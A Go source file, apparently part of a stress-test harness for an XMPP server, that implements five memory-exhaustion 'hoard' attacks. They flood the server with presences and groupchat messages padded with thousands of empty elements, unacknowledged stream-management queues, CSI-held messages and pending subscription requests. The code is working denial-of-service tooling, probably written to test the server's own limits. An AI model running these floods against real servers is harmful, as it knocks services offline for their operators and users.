package main

import (
	"fmt"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// hoardAttacks go after what the server keeps of a presence: the router
// keeps every session's last available presence (for probes and new
// subscribers) and the MUC service each occupant's in every room, and a
// presence of thousands of empty elements is a few bytes on the wire per
// element but tens of bytes each as a tree.
func hoardAttacks() []attack {
	return []attack{
		{"presence-tree-hoard", "3,000 sessions of 1,000 accounts over 250 addresses each sending one available presence of 4,900 empty elements (25 KB on the wire, a tree of about 450 KB) and holding it", presenceTreeHoard},
		{"sm-unacked-muc-hoard", "1,500 sessions over 250 addresses enabling XEP-0198 and joining one room, reading everything and acknowledging nothing, while 10 senders post 16 KB groupchat messages at line rate (each kept unacknowledged for every occupant)", smUnackedHoard},
		{"csi-tree-hoard", "300 CSI-inactive occupants of one room (each holding back what is not urgent) while 20 senders post body-less groupchat messages of 4,900 empty elements (20 KB) at line rate", csiTreeHoard},
		{"roster-pending-tree-hoard", "250 accounts over 250 addresses sending subscription requests carrying 4,900 empty elements to 400 accounts (kept pending until answered)", rosterPendingHoard},
		{"muc-presence-hoard", "200 sessions over 200 addresses each joining 40 rooms of their own with a presence of 4,900 empty elements, and 50 more joining one shared room with it (each join broadcast to every occupant)", mucPresenceHoard},
	}
}

// treePresence is the children of a presence that cost the most tree per
// wire byte within the server's element limit (c2s.DefaultMaxElements):
// one element holding n empty ones.
func treePresence(n int) string {
	return "<x xmlns='urn:attack:hoard'>" + strings.Repeat("<a/>", n) + "</x>"
}

func presenceTreeHoard(e *env) (string, error) {
	x := treePresence(4900)
	var next, held atomic.Int64
	e.parallel(32, func(int) {
		for !e.done() {
			i := int(next.Add(1) - 1)
			if i >= 3000 {
				return
			}
			s, err := e.login(ip(i%250), "pth"+strconv.Itoa(i%1000), "r"+strconv.Itoa(i/1000), true)
			if err != nil {
				continue
			}
			if s.sendTillEnd("<presence><status>"+strconv.Itoa(i)+"</status>"+x+"</presence>") == nil {
				held.Add(1)
			}
		}
	})
	note := fmt.Sprintf("%d presences held, ", held.Load()) + e.counts()
	e.hold()
	return note, nil
}

func mucPresenceHoard(e *env) (string, error) {
	x := treePresence(4900)
	var joins atomic.Int64
	shared := "hoardshared@" + e.muc
	e.parallel(250, func(i int) {
		s, err := e.login(ip(i), "mph"+strconv.Itoa(i), "m", true)
		if err != nil {
			return
		}
		if i >= 200 {
			// The shared room: its owner configures it, the others
			// join it (and are sent everyone's presence).
			st := "<presence to='" + shared + "/n" + strconv.Itoa(i) + "'><x xmlns='" + nsMUC + "'><history maxstanzas='0'/></x>" + x + "</presence>"
			if i == 200 {
				st += configure(shared, false)
			}
			if s.sendTillEnd(st) == nil {
				joins.Add(1)
			}
			return
		}
		for r := 0; r < 40 && !e.done(); r++ {
			room := "hoard" + strconv.Itoa(i) + "-" + strconv.Itoa(r) + "@" + e.muc
			if s.sendTillEnd("<presence to='"+room+"/o'><x xmlns='"+nsMUC+"'><history maxstanzas='0'/></x>"+x+"</presence>") != nil {
				return
			}
			joins.Add(1)
		}
	})
	note := fmt.Sprintf("%d joins sent, ", joins.Load()) + e.counts()
	e.hold()
	return note, nil
}

// sendTillEnd is send with a write deadline at the attack's end rather
// than in 2 s: for a stanza the server reads at its own pace (its read
// rate), which is the attacker's pace too.
func (s *session) sendTillEnd(x string) error {
	d := time.Minute
	if end, ok := s.e.ctx.Deadline(); ok {
		d = time.Until(end)
	}
	return s.sendWithin(x, 1, d)
}

func smUnackedHoard(e *env) (string, error) {
	room := "smhoard@" + e.muc
	var next, joined atomic.Int64
	e.parallel(32, func(int) {
		for !e.done() {
			i := int(next.Add(1) - 1)
			if i >= 1500 {
				return
			}
			s, err := e.login(ip(i%250), "smh"+strconv.Itoa(i), "s", false)
			if err != nil {
				continue
			}
			s.drain()
			if s.send("<enable xmlns='urn:xmpp:sm:3'/>"+join(room, "n"+strconv.Itoa(i))) == nil {
				joined.Add(1)
			}
		}
	})
	note := fmt.Sprintf("%d joined, ", joined.Load())
	body := strings.Repeat("u", 16<<10)
	n, err := loopedAs(e, 10, 10, func(i int) string { return "smhs" + strconv.Itoa(i) }, func(i int, s *session, k int64) error {
		if k == 1 {
			if err := s.send(join(room, "sender"+strconv.Itoa(i))); err != nil {
				return err
			}
		}
		return s.sendTillEnd("<message type='groupchat' to='" + room + "'><body>" + body + "</body></message>")
	})
	return note + n, err
}

func csiTreeHoard(e *env) (string, error) {
	room := "csihoard@" + e.muc
	victims := e.sessions(300, 250, func(i int) string { return "cth" + strconv.Itoa(i) }, func(int) string { return "c" }, false, true)
	for i, v := range victims {
		_ = v.send(join(room, "v"+strconv.Itoa(i)) + "<inactive xmlns='urn:xmpp:csi:0'/>")
	}
	x := treePresence(4900)
	n, err := loopedAs(e, 20, 20, func(i int) string { return "cths" + strconv.Itoa(i) }, func(i int, s *session, k int64) error {
		if k == 1 {
			if err := s.send(join(room, "sender"+strconv.Itoa(i))); err != nil {
				return err
			}
		}
		return s.sendTillEnd("<message type='groupchat' to='" + room + "'>" + x + "</message>")
	})
	return fmt.Sprintf("%d inactive occupants, ", len(victims)) + n, err
}

func rosterPendingHoard(e *env) (string, error) {
	// The targets must exist: log each in once.
	targets := e.sessions(400, 250, func(i int) string { return "rpt" + strconv.Itoa(i) }, func(int) string { return "t" }, false, true)
	for _, t := range targets {
		t.nc.Close()
	}
	x := treePresence(4900)
	return loopedAs(e, 250, 250, func(i int) string { return "rps" + strconv.Itoa(i) }, func(i int, s *session, k int64) error {
		to := "rpt" + strconv.FormatInt((int64(i)*7+k)%400, 10) + "@" + e.domain
		return s.sendTillEnd("<presence type='subscribe' to='" + to + "'>" + x + "</presence>")
	})
}
